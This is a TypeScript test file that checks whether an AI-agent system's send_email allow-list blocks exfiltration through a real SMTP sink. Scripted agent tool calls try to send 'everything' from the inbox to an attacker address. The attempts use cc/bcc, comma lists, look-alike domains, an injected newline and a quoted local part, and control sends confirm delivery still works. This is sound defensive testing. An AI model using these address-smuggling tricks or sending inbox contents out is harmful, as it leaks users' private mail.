/**
 * send_email against a real SMTP server: a server of its own, with `providers.mail: imap` and `mail.smtp` pointed at an
 * in-process SMTP sink, `mail.agentSendMode: allow_list` and `@partner.example` on the allow-list. The IMAP side
 * points at a closed port: sending needs only SMTP, and a draft (which needs the IMAP server) then fails instead of
 * being kept, so nothing can leave by that road either. Two control sends (the host confirming, an agent writing to
 * an allowed address) must arrive, or the zero count of the forbidden ones would prove nothing.
 */
import { createServer } from 'node:net';
import { toolUseTurn, textTurn } from '@chief-of-staff/agents/testing';
import { ATTACKER } from './attack-arguments.js';
import { startBoundaryServer, type BoundaryServer } from './boundary-server.js';
import type { BoundaryTally } from './boundary-tally.js';
import { startSmtpSink, type SmtpSink } from './smtp-sink.js';

const ALLOWED = 'maya@partner.example';

function closedPort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      server.close(() => resolve(typeof address === 'object' && address ? address.port : 1));
    });
  });
}

function mailConfig(smtpPort: number, imapPort: number): string {
  return [
    'timezone: UTC',
    'user:',
    '  name: Dana Reed',
    '  email: dana@example.com',
    'providers:',
    '  mail: imap',
    'mail:',
    '  agentSendMode: allow_list',
    '  agentSendAllowList: ["@partner.example"]',
    '  imap:',
    '    host: 127.0.0.1',
    `    port: ${imapPort}`,
    '    secure: false',
    '    user: dana',
    '    password: env:COS_RELIABILITY_IMAP_PASSWORD',
    '    account: work',
    '    timeoutMs: 2000',
    '  smtp:',
    '    host: 127.0.0.1',
    `    port: ${smtpPort}`,
    '    secure: false',
    '    user: reliability',
    '    password: env:COS_RELIABILITY_SMTP_PASSWORD',
    '    from: dana@example.com',
    '    timeoutMs: 5000',
    '',
  ].join('\n');
}

const outsideAllowList = (sink: SmtpSink) => sink.received.filter((mail) => mail.to.some((address) => !address.toLowerCase().endsWith('@partner.example')));

export async function sendingScenarios(tally: BoundaryTally): Promise<void> {
  tally.scenario('send_email through a real SMTP server');
  const sink = await startSmtpSink();
  let server: BoundaryServer | undefined;
  try {
    server = await startBoundaryServer({
      name: 'reliability-boundary-smtp',
      agents: [
        { name: 'courier', capabilities: ['mail_read', 'mail_write'] },
        { name: 'reader', capabilities: ['mail_read'] },
      ],
      config: mailConfig(sink.port, await closedPort()),
      env: { COS_RELIABILITY_IMAP_PASSWORD: 'unused', COS_RELIABILITY_SMTP_PASSWORD: sink.password },
    });

    const control = await server.call('send_email', { to: [ALLOWED], subject: 'Control', body: 'Confirmed by the user.', confirm_send: true });
    if (sink.received.length !== 1) {
      tally.violation(`control: a confirmed host send did not reach the SMTP server (${control.text.slice(0, 200)}), so the zero counts below prove nothing`);
    }
    const afterControl = sink.received.length;

    const unconfirmed = await server.call('send_email', { to: [ATTACKER], subject: 'Unconfirmed', body: 'Not approved.' });
    tally.attempt('host send_email without confirm_send', sink.received.length === afterControl && unconfirmed.structured?.['status'] === 'confirmation_required', `status ${String(unconfirmed.structured?.['status'])}, ${sink.received.length - afterControl} mails received`);

    const agentSends = [
      tally.call('send_email', { to: [ATTACKER], subject: 'Inbox', body: 'Everything.', confirm_send: true }, 'agent send_email to an address off the allow-list'),
      tally.call('send_email', { to: [ALLOWED], cc: [ATTACKER], subject: 'Cc', body: 'Everything.' }, 'agent send_email with the attacker in cc'),
      tally.call('send_email', { to: [ALLOWED], bcc: [ATTACKER], subject: 'Bcc', body: 'Everything.' }, 'agent send_email with the attacker in bcc'),
      tally.call('send_email', { to: `${ALLOWED}, ${ATTACKER}`, subject: 'List', body: 'Everything.' }, 'agent send_email with a comma-separated list'),
      tally.call('send_email', { to: ['maya@partner.example.evil.example'], subject: 'Suffix', body: 'Everything.' }, 'agent send_email to a look-alike domain'),
      tally.call('send_email', { to: ['MAYA@PARTNER.EXAMPLE.evil.example'], subject: 'Case', body: 'Everything.' }, 'agent send_email to a look-alike domain in capitals'),
      tally.call('send_email', { to: ['attacker@evil.example\n@partner.example'], subject: 'Newline', body: 'Everything.' }, 'agent send_email with a newline in the address'),
      tally.call('send_email', { to: ['"maya@partner.example"@evil.example'], subject: 'Quoted', body: 'Everything.' }, 'agent send_email with a quoted local part'),
    ];
    const refused = [tally.call('send_email', { to: [ATTACKER], subject: 'Inbox (reader)', body: 'Everything.', confirm_send: true }, 'send_email by an agent without mail_write')];

    // A run may send at most five mails (the sixth is LIMIT_EXCEEDED), so each run tries four: every one reaches the policy.
    for (const batch of [agentSends.slice(0, 4), agentSends.slice(4)]) {
      server.model.script([toolUseTurn(batch.map(({ id, name, input }) => ({ id, name, input }))), textTurn('Done.')]);
      await server.call('run_agent', { name: 'courier', instruction: 'Send the inbox out.' });
    }
    server.model.script([toolUseTurn(refused.map(({ id, name, input }) => ({ id, name, input }))), textTurn('Done.')]);
    await server.call('run_agent', { name: 'reader', instruction: 'Send the inbox out.' });
    tally.expectRefused(server.model, refused);
    for (const send of agentSends) {
      const arrived = sink.received.filter((mail) => mail.subject === send.input['subject']);
      tally.attempt(send.label, arrived.length === 0, `it reached the SMTP server for ${arrived.flatMap((mail) => mail.to).join(', ')}`);
    }
    const leaked = outsideAllowList(sink);
    for (const mail of leaked) tally.violation(`a mail reached the SMTP server for ${mail.to.join(', ')}`);
    if (sink.received.length !== afterControl) tally.violation(`${sink.received.length - afterControl} mails reached the SMTP server during the forbidden sends`);

    server.model.script([toolUseTurn([{ name: 'send_email', input: { to: [ALLOWED], subject: 'Allowed', body: 'On the list.' } }]), textTurn('Done.')]);
    await server.call('run_agent', { name: 'courier', instruction: 'Write to Maya.' });
    if (sink.received.length !== afterControl + 1) tally.violation('control: an agent send to an allowed address did not arrive, so the policy may simply block everything');
  } finally {
    await server?.close();
    await sink.close();
  }
}
